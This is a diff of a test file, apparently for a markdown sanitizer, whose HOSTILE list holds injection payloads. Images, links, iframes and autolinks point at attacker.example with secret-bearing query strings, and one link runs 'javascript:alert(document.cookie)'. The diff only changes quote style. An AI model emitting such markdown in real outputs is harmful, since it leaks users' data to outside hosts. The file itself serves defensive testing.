@@ -19,14 +19,14 @@ LEAKS = {"image", "link_open", "html_inline", "html_block", "bare_url"}
 
 HOSTILE = [
     "Here you go ![](https://attacker.example/?q=secret) [1]",
-    "![logo](https://attacker.example/a.png \"title\")",
+    '![logo](https://attacker.example/a.png "title")',
     "![logo](<https://attacker.example/a b.png>)",
     "![alt][ref]\n\n[ref]: https://attacker.example/?q=secret",
     "![ref]\n\n[ref]: https://attacker.example/?q=secret",
     "[click me](javascript:alert(document.cookie))",
     "[click me](https://attacker.example/?q=secret)",
     "[text][r]\n\n[r]: https://attacker.example/",
-    "<img src=\"https://attacker.example/x.png\" alt=\"x\">",
+    '<img src="https://attacker.example/x.png" alt="x">',
     "<iframe src='https://attacker.example/frame'></iframe>",
     "<https://attacker.example/?q=secret> and <mail@attacker.example>",
     "see https://attacker.example/?q=secret or www.attacker.example today",
